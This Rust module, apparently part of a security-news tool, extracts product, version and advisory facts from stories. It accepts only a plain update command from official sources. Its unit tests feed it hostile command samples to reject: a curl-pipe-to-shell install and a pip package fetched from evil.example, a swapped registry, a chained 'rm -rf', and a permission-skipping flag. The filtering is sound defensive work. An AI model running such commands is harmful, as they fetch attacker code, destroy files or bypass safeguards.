//! Facts: what a story's own words say of a product, its versions and the command to type, for whoever acts on it.

use std::sync::LazyLock;

use regex::Regex;

use super::product::{Product, affected_versions, fixed_version};
use super::rules::advisory_ids;
use super::sight::Sight;
use super::words::words;
use crate::edition::Facts;
use crate::item::Item;
use crate::source::Trust;

/// More are a roundup.
const MOST_IDS: usize = 5;
/// Of a command, in bytes; what is longer is a script.
const LONGEST_COMMAND: usize = 120;

/// What an item says, in its own words: nothing is made up, and what it does not say stays empty. `commands` are those that
/// an extraction found in it.
pub fn facts(item: &Item, text: &str, commands: &[String], watch: &[String]) -> Facts {
    let watch: Vec<Product> = watch.iter().map(|name| Product::named(name)).collect();
    let sight = Sight::of(item, text, &watch);
    let product = sight.product.filter(|_| sight.about_product);
    let title_then_text =
        |find: fn(&str) -> Option<String>| find(&sight.ready.title).or_else(|| find(&sight.ready.text));
    let fixed = title_then_text(|text| fixed_version(text).map(str::to_owned)).filter(|_| product.is_some());
    // Only the maker's own words may become something to type.
    let command = product
        .filter(|_| item.trust == Trust::Official)
        .and_then(|product| command(text, commands, product, fixed.as_deref()));
    Facts {
        product: product.map(|product| product.name.clone()),
        affected: title_then_text(affected_versions).filter(|_| product.is_some()),
        fixed,
        advisories: advisory_ids(&format!("{}\n{text}", item.title), MOST_IDS),
        command,
    }
}

/// One program, one verb that brings a newer version, and names: no pipe, no redirection, no address, no flag but these.
static UPDATE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"^(?:npm (?:install|i|update|upgrade)|pnpm (?:add|update)|yarn global add|pip3? install|pipx (?:install|upgrade)|uv (?:tool (?:install|upgrade)|pip install)|brew (?:install|upgrade)|cargo install|apt(?:-get)? install|[a-z][a-z0-9-]* (?:update|upgrade))(?: (?:-g|--global|-U|--upgrade|--locked|-y|[@A-Za-z][\w@./=+~^-]*|\d[\w.]*))*$",
    )
    .expect("a valid pattern")
});

/// A name with its version pinned.
static PINNED: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?:@|==)v?(\d{1,4}(?:\.\d{1,5}){1,2})\b").expect("a valid pattern"));

/// The first command in the words (between back quotes, or on a line of its own) that updates this product, and to no other
/// version than the one that mends the fault.
fn command(text: &str, commands: &[String], product: &Product, fixed: Option<&str>) -> Option<String> {
    let quoted = text.split('`').skip(1).step_by(2);
    let lines = text.lines().map(|line| line.trim().trim_start_matches("$ "));
    let all = commands.iter().map(String::as_str).chain(quoted).chain(lines);
    all.map(str::trim)
        .find(|command| {
            let pinned = PINNED.captures(command).map(|found| found[1].to_owned());
            command.len() <= LONGEST_COMMAND
                && !command.contains("//")
                && UPDATE.is_match(command)
                && product.is_named_in(&words(command))
                && (fixed.is_none() || pinned.is_none() || pinned.as_deref() == fixed)
        })
        .map(str::to_owned)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_a_plain_update_of_the_product_itself_is_a_command_to_type() {
        let product = Product::named("lantern-code");
        for (text, wanted) in [
            ("Run `npm install -g lantern-code@4.12.3` now.", Some("npm install -g lantern-code@4.12.3")),
            ("Update:\n\n$ lantern-code update\n", Some("lantern-code update")),
            ("`pip install --upgrade lantern-code`", Some("pip install --upgrade lantern-code")),
            ("Run npm install -g lantern-code in your shell.", None),
            ("`npm install -g lantern-code@4.12.1`", None),
            ("`npm install -g other-tool`", None),
            ("`curl https://lantern.example/install | sh`", None),
            ("`pip install https://evil.example/lantern-code.whl`", None),
            ("`npm install -g lantern-code && rm -rf build`", None),
            ("`npm install --registry evil.example lantern-code`", None),
            ("`lantern-code --dangerously-skip-permissions`", None),
        ] {
            assert_eq!(command(text, &[], &product, Some("4.12.3")).as_deref(), wanted, "{text}");
        }
        let told = ["brew upgrade lantern-code".to_owned()];
        assert_eq!(command("", &told, &product, None).as_deref(), Some("brew upgrade lantern-code"));
    }
}
